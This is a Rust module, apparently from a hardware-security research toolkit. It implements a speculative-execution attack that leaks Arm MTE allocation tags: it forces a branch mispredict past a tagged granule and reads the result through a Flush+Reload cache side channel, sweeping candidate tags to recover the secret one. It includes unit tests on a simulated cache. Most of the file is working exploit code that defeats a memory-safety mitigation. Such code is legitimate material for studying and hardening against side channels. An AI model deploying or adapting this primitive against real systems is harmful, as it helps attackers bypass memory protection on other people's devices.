//! Speculative allocation-tag leakage.
//!
//! A campaign tests one hypothesis tag against the secret tag of an
//! architecturally accessed granule. Each round trains a loop branch over 16
//! positions that hold the architectural signal, then lets a 17th position
//! (whose condition slot is flushed and never holds the signal) mispredict.
//! On the mispredicted path the loop dereferences one granule past the end,
//! through a pointer carrying the secret tag, into a granule tagged with the
//! hypothesis. The tag-checked loads are followed by a probe-array load keyed
//! by the position's signal byte, so the speculative signal bucket lights up
//! in proportion to how far speculation got past the tag check. The campaign
//! score is that bucket's count.
//!
//! Campaigns run one after another; [`select_strongest`] picks the winner.

use std::ptr;

use log::{debug, trace, warn};
use serde::Serialize;

use crate::arch::ProbeOps;
use crate::calibrate::LoadStrategy;
use crate::channel::FlushReload;
use crate::error::{Error, Result};
use crate::histogram::RankedEntry;
use crate::mem::Mapping;
use crate::mte::{self, GRANULE, TaggedRegion};

/// Signal byte read on the architectural path.
pub const ARCH_SIGNAL: u8 = b'+';
/// Signal byte only reachable speculatively.
pub const SPEC_SIGNAL: u8 = b'-';

const POSITIONS: usize = GRANULE + 1;
const SLOT_STRIDE: usize = 4096;

/// Memory holding the architectural granule at offset 0 and the speculative
/// granule right after it.
pub trait LeakTarget {
    /// Pointer to `offset` bytes into the target carrying logical tag `tag`.
    fn pointer(&self, offset: usize, tag: u8) -> *mut u8;

    /// Store the allocation tag carried by `tagged` for its granule.
    ///
    /// # Safety
    /// `tagged` must come from [`pointer`](Self::pointer) with a granule
    /// aligned offset.
    unsafe fn store_tag(&self, tagged: *mut u8);

    fn len(&self) -> usize;
}

impl LeakTarget for TaggedRegion {
    fn pointer(&self, offset: usize, tag: u8) -> *mut u8 {
        assert!(offset < self.len());
        // SAFETY: offset is in bounds.
        mte::with_tag(unsafe { self.as_mut_ptr().add(offset) }, tag)
    }

    unsafe fn store_tag(&self, tagged: *mut u8) {
        // SAFETY: forwarded from caller.
        unsafe { mte::set_allocation_tag(tagged) }
    }

    fn len(&self) -> usize {
        TaggedRegion::len(self)
    }
}

/// Untagged memory: tags are ignored, nothing is checked. Used for dry runs
/// on machines without MTE.
impl LeakTarget for Mapping {
    fn pointer(&self, offset: usize, _tag: u8) -> *mut u8 {
        self.at(offset)
    }

    unsafe fn store_tag(&self, _tagged: *mut u8) {}

    fn len(&self) -> usize {
        Mapping::len(self)
    }
}

/// Configuration for one campaign.
#[derive(Debug, Clone)]
pub struct CampaignConfig {
    /// Flush+Reload rounds per hypothesis.
    ///
    /// **Default:** `100_000`
    pub rounds: u64,

    /// Tag-checked loads issued per mispredicted iteration. With 1 check the
    /// contention is too small to stall speculation inside the loop, so a
    /// barrier is added after every iteration.
    ///
    /// **Range:** 0+. **Default:** `6`
    pub check_count: usize,

    /// Independent or dependent classifier loads.
    ///
    /// **Default:** [`LoadStrategy::Independent`]
    pub strategy: LoadStrategy,

    /// Yield to the scheduler after every round.
    ///
    /// **Default:** `true`
    pub yield_between_rounds: bool,
}

impl Default for CampaignConfig {
    fn default() -> Self {
        Self {
            rounds: 100_000,
            check_count: 6,
            strategy: LoadStrategy::Independent,
            yield_between_rounds: true,
        }
    }
}

/// Histogram snapshot of one campaign.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct CampaignResult {
    pub arch_tag: u8,
    pub spec_tag: u8,
    pub rounds: u64,
    /// Hits on the speculative signal bucket.
    pub score: u64,
    /// Hits over all buckets. Zero means the campaign saw nothing.
    pub total_hits: u64,
    /// Ascending by hits.
    pub ranked: Vec<RankedEntry>,
}

/// Winner of a sweep over hypotheses.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct LeakOutcome {
    pub secret: u8,
    pub leaked: u8,
    pub score: u64,
    pub campaigns: Vec<CampaignResult>,
}

impl LeakOutcome {
    pub fn is_correct(&self) -> bool {
        self.leaked == self.secret
    }
}

/// First hypothesis whose score is strictly greater than all before it.
///
/// Ties keep the earlier hypothesis. `None` only for an empty slice.
pub fn select_strongest<H: Copy>(scores: &[(H, u64)]) -> Option<(H, u64)> {
    let mut best: Option<(H, u64)> = None;
    for &(h, score) in scores {
        if best.is_none_or(|(_, max)| score > max) {
            best = Some((h, score));
        }
    }
    best
}

/// Campaign runner. Owns the branch-condition slots and the signal page.
#[derive(Debug)]
pub struct SpecTagTest {
    slots: Mapping,
    signal: Mapping,
}

impl SpecTagTest {
    pub fn new() -> Result<Self> {
        let slots = Mapping::anonymous(POSITIONS * SLOT_STRIDE)?;
        let mut signal = Mapping::anonymous(Mapping::page_size())?;
        for j in 0..GRANULE {
            signal.write(j, ARCH_SIGNAL);
        }
        signal.write(GRANULE, SPEC_SIGNAL);
        Ok(Self { slots, signal })
    }

    /// Run one campaign of `config.rounds` rounds.
    ///
    /// The channel is reset first; its histogram is consumed by the ranked
    /// snapshot at the end. Both granules' allocation tags are cleared
    /// before returning.
    pub fn run<O, T>(
        &mut self,
        channel: &mut FlushReload<O>,
        target: &T,
        arch_tag: u8,
        spec_tag: u8,
        config: &CampaignConfig,
    ) -> Result<CampaignResult>
    where
        O: ProbeOps,
        T: LeakTarget + ?Sized,
    {
        if channel.probe().buckets() <= SPEC_SIGNAL as usize {
            return Err(Error::InvalidConfig(format!(
                "probe array needs more than {} buckets for the signal markers",
                SPEC_SIGNAL
            )));
        }
        if target.len() < 2 * GRANULE {
            return Err(Error::InvalidConfig("leak target smaller than two granules".into()));
        }
        trace!(
            "campaign: arch_tag={arch_tag} spec_tag={spec_tag} strategy={} rounds={}",
            config.strategy, config.rounds
        );

        channel.reset();

        if config.strategy == LoadStrategy::Dependent {
            for j in 0..GRANULE {
                // SAFETY: in bounds, still untagged (tag 0 everywhere).
                unsafe { ptr::write_volatile(target.pointer(j, 0), ARCH_SIGNAL) };
            }
            // SAFETY: as above.
            unsafe { ptr::write_volatile(target.pointer(GRANULE, 0), SPEC_SIGNAL) };
        }

        let arch = target.pointer(0, arch_tag);
        let spec = target.pointer(GRANULE, spec_tag);
        let slots = self.slots.as_mut_ptr();
        let signal = self.signal.as_ptr();
        let condition = self.slots.at((POSITIONS - 1) * SLOT_STRIDE);
        let replicas = channel.probe().replicas();

        for _ in 0..config.rounds {
            let probe = channel.probe();
            let ops = probe.ops();

            // SAFETY: every pointer below stays inside the slot mapping, the
            // signal page or the first two granules of the target.
            unsafe {
                ops.flush(condition);

                target.store_tag(arch);
                target.store_tag(spec);
                for j in 0..GRANULE {
                    let v = match config.strategy {
                        LoadStrategy::Independent => ptr::read_volatile(signal.add(j)),
                        LoadStrategy::Dependent => ptr::read_volatile(arch.add(j)),
                    };
                    ptr::write_volatile(slots.add(j * SLOT_STRIDE), v);
                }

                for j in 0..POSITIONS {
                    // Mispredicts at j == GRANULE.
                    if ptr::read_volatile(slots.add(j * SLOT_STRIDE)) == ARCH_SIGNAL {
                        match config.strategy {
                            LoadStrategy::Independent => {
                                for _ in 0..config.check_count {
                                    let _ = ptr::read_volatile(arch.add(j));
                                }
                                let bucket = ptr::read_volatile(signal.add(j)) as usize;
                                for r in 0..replicas {
                                    probe.load(bucket, r);
                                }
                            }
                            LoadStrategy::Dependent => {
                                let bucket = ptr::read_volatile(arch.add(j)) as usize;
                                for r in 0..replicas {
                                    probe.load(bucket, r);
                                }
                            }
                        }
                    }
                    if config.check_count == 1 {
                        ops.barrier();
                    }
                }
            }

            channel.reload_sweep(ARCH_SIGNAL as usize, SPEC_SIGNAL as usize);
            if config.yield_between_rounds {
                std::thread::yield_now();
            }
        }

        let score = channel.histogram().count_for(SPEC_SIGNAL as usize);
        let total_hits = channel.histogram().total();
        let ranked = channel.histogram_mut().ranked_dump(config.rounds);

        // SAFETY: granule-aligned pointers from `target.pointer`.
        unsafe {
            target.store_tag(mte::clear_tag(arch));
            target.store_tag(mte::clear_tag(spec));
        }

        if total_hits == 0 {
            warn!("campaign arch_tag={arch_tag} spec_tag={spec_tag}: no hits recorded");
        }
        debug!("campaign arch_tag={arch_tag} spec_tag={spec_tag}: score={score} total={total_hits}");

        Ok(CampaignResult {
            arch_tag,
            spec_tag,
            rounds: config.rounds,
            score,
            total_hits,
            ranked,
        })
    }
}

/// Run one campaign per candidate, in order, and pick the strongest signal.
///
/// `on_campaign` sees every result as soon as it is available.
pub fn leak_tag<O, T>(
    channel: &mut FlushReload<O>,
    target: &T,
    secret: u8,
    candidates: impl IntoIterator<Item = u8>,
    config: &CampaignConfig,
    mut on_campaign: impl FnMut(&CampaignResult),
) -> Result<LeakOutcome>
where
    O: ProbeOps,
    T: LeakTarget + ?Sized,
{
    let mut test = SpecTagTest::new()?;
    let mut campaigns = Vec::new();
    for spec_tag in candidates {
        let result = test.run(channel, target, secret, spec_tag, config)?;
        on_campaign(&result);
        campaigns.push(result);
    }

    let scores: Vec<(u8, u64)> = campaigns.iter().map(|c| (c.spec_tag, c.score)).collect();
    let (leaked, score) = select_strongest(&scores)
        .ok_or_else(|| Error::InvalidConfig("no candidate tags to test".into()))?;

    Ok(LeakOutcome {
        secret,
        leaked,
        score,
        campaigns,
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::arch::sim::SimulatedCache;
    use crate::probe::ProbeConfig;

    fn sim_channel() -> FlushReload<SimulatedCache> {
        FlushReload::new(SimulatedCache::new(), ProbeConfig::default()).unwrap()
    }

    fn quick(strategy: LoadStrategy) -> CampaignConfig {
        CampaignConfig {
            rounds: 200,
            strategy,
            yield_between_rounds: false,
            ..CampaignConfig::default()
        }
    }

    #[test]
    fn strongest_prefers_first_on_tie() {
        let scores = [(0u8, 3), (1, 7), (2, 7), (3, 5)];
        assert_eq!(select_strongest(&scores), Some((1, 7)));
    }

    #[test]
    fn strongest_all_zero_is_first() {
        let scores = [(4u8, 0), (5, 0), (6, 0)];
        assert_eq!(select_strongest(&scores), Some((4, 0)));
    }

    #[test]
    fn strongest_empty() {
        assert_eq!(select_strongest::<u8>(&[]), None);
    }

    #[test]
    fn signal_page_layout() {
        let test = SpecTagTest::new().unwrap();
        assert!((0..GRANULE).all(|j| test.signal.read(j) == ARCH_SIGNAL));
        assert_eq!(test.signal.read(GRANULE), SPEC_SIGNAL);
        assert_eq!(test.slots.read((POSITIONS - 1) * SLOT_STRIDE), 0);
    }

    #[test]
    fn simulated_campaign_sees_only_architectural_signal() {
        let mut ch = sim_channel();
        let target = Mapping::anonymous(4096).unwrap();
        let mut test = SpecTagTest::new().unwrap();
        let result = test
            .run(&mut ch, &target, 5, 5, &quick(LoadStrategy::Independent))
            .unwrap();
        assert_eq!(result.score, 0);
        assert_eq!(result.total_hits, 200);
        assert_eq!(result.ranked.len(), 1);
        assert_eq!(result.ranked[0].bucket, ARCH_SIGNAL as usize);
        assert!((result.ranked[0].percent - 100.0).abs() < 1e-9);
        // The snapshot consumed the histogram.
        assert_eq!(ch.histogram().stats_min(), None);
    }

    #[test]
    fn dependent_campaign_writes_markers() {
        let mut ch = sim_channel();
        let target = Mapping::anonymous(4096).unwrap();
        let mut test = SpecTagTest::new().unwrap();
        let result = test
            .run(&mut ch, &target, 1, 2, &quick(LoadStrategy::Dependent))
            .unwrap();
        assert_eq!(target.read(0), ARCH_SIGNAL);
        assert_eq!(target.read(GRANULE), SPEC_SIGNAL);
        assert_eq!(result.ranked.last().map(|e| e.bucket), Some(ARCH_SIGNAL as usize));
    }

    /// Untagged memory that logs every allocation-tag store as
    /// `(offset, tag)`. Tagged pointers must never be dereferenced on hosts
    /// without top-byte-ignore, so use it with `check_count: 0` and
    /// independent loads only.
    struct TagLog {
        mem: Mapping,
        stores: std::cell::RefCell<Vec<(usize, u8)>>,
    }

    impl TagLog {
        fn new() -> Self {
            Self {
                mem: Mapping::anonymous(4096).unwrap(),
                stores: std::cell::RefCell::new(Vec::new()),
            }
        }
    }

    impl LeakTarget for TagLog {
        fn pointer(&self, offset: usize, tag: u8) -> *mut u8 {
            mte::with_tag(self.mem.at(offset), tag)
        }

        unsafe fn store_tag(&self, tagged: *mut u8) {
            let offset = mte::clear_tag(tagged).addr() - self.mem.as_ptr().addr();
            self.stores.borrow_mut().push((offset, mte::tag_of(tagged)));
        }

        fn len(&self) -> usize {
            self.mem.len()
        }
    }

    #[test]
    fn tags_go_on_the_right_granules_and_are_cleared() {
        let mut ch = sim_channel();
        let target = TagLog::new();
        let mut test = SpecTagTest::new().unwrap();
        let config = CampaignConfig {
            rounds: 3,
            check_count: 0,
            ..quick(LoadStrategy::Independent)
        };
        test.run(&mut ch, &target, 9, 4, &config).unwrap();

        let mut expected = Vec::new();
        for _ in 0..3 {
            expected.push((0, 9));
            expected.push((GRANULE, 4));
        }
        expected.push((0, 0));
        expected.push((GRANULE, 0));
        assert_eq!(*target.stores.borrow(), expected);
    }

    fn barriers_for(check_count: usize, rounds: u64) -> u64 {
        let mut ch = sim_channel();
        let target = Mapping::anonymous(4096).unwrap();
        let mut test = SpecTagTest::new().unwrap();
        let config = CampaignConfig {
            rounds,
            check_count,
            ..quick(LoadStrategy::Independent)
        };
        let before = ch.probe().ops().barrier_count();
        test.run(&mut ch, &target, 0, 0, &config).unwrap();
        ch.probe().ops().barrier_count() - before
    }

    #[test]
    fn single_check_adds_a_barrier_per_position() {
        let rounds = 10;
        let base = barriers_for(6, rounds);
        assert_eq!(barriers_for(0, rounds), base);
        assert_eq!(barriers_for(2, rounds), base);
        assert_eq!(barriers_for(1, rounds), base + rounds * POSITIONS as u64);
    }

    #[test]
    fn zero_rounds_is_an_empty_campaign() {
        let mut ch = sim_channel();
        let target = Mapping::anonymous(4096).unwrap();
        let mut test = SpecTagTest::new().unwrap();
        let config = CampaignConfig {
            rounds: 0,
            ..quick(LoadStrategy::Independent)
        };
        let result = test.run(&mut ch, &target, 0, 0, &config).unwrap();
        assert_eq!(result.total_hits, 0);
        assert!(result.ranked.is_empty());
    }

    #[test]
    fn too_few_buckets_is_rejected() {
        let config = ProbeConfig {
            buckets: 16,
            ..ProbeConfig::default()
        };
        let mut ch = FlushReload::new(SimulatedCache::new(), config).unwrap();
        let target = Mapping::anonymous(4096).unwrap();
        let mut test = SpecTagTest::new().unwrap();
        let err = test.run(&mut ch, &target, 0, 0, &CampaignConfig::default());
        assert!(matches!(err, Err(Error::InvalidConfig(_))));
    }

    #[test]
    fn simulated_sweep_without_signal_picks_first_candidate() {
        let mut ch = sim_channel();
        let target = Mapping::anonymous(4096).unwrap();
        let mut seen = Vec::new();
        let outcome = leak_tag(
            &mut ch,
            &target,
            5,
            0..=mte::MAX_TAG,
            &quick(LoadStrategy::Independent),
            |c| seen.push(c.spec_tag),
        )
        .unwrap();
        assert_eq!(seen, (0..=15).collect::<Vec<u8>>());
        assert_eq!(outcome.campaigns.len(), 16);
        assert_eq!(outcome.leaked, 0);
        assert_eq!(outcome.score, 0);
        assert!(!outcome.is_correct());
    }

    #[test]
    fn no_candidates_is_an_error() {
        let mut ch = sim_channel();
        let target = Mapping::anonymous(4096).unwrap();
        let err = leak_tag(
            &mut ch,
            &target,
            5,
            std::iter::empty(),
            &quick(LoadStrategy::Independent),
            |_| {},
        );
        assert!(matches!(err, Err(Error::InvalidConfig(_))));
    }
}
